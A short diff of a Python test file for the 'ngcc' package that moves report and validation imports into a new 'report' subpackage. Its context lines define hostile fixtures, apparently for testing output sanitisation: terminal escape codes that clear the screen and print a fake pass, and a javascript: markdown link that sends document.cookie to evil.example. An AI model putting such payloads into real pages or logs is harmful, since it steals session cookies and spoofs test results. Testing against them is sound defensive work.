@@ -21,13 +21,14 @@ from _fakerun import make_run
 from _testlib import CHANNEL_FD_SOURCE, FORGE_ERROR_STATEMENTS, build_library
 
 import ngcc
-from ngcc import _export, _report
-from ngcc._validate import check_links, validate
 from ngcc.base import files as _files
 from ngcc.base import untrusted as _untrusted
 from ngcc.base.errors import CorruptRecordError, NgccError
 from ngcc.evidence import records as _records
 from ngcc.evidence.run import load_run
+from ngcc.report import export as _export
+from ngcc.report import pages as _report
+from ngcc.report.validate import check_links, validate
 
 ESCAPES = "\033[2J\033]0;owned\007\033[31mFAKE PASS"
 HOSTILE = ("[the log](javascript:location='//evil.example/?'+document.cookie) "
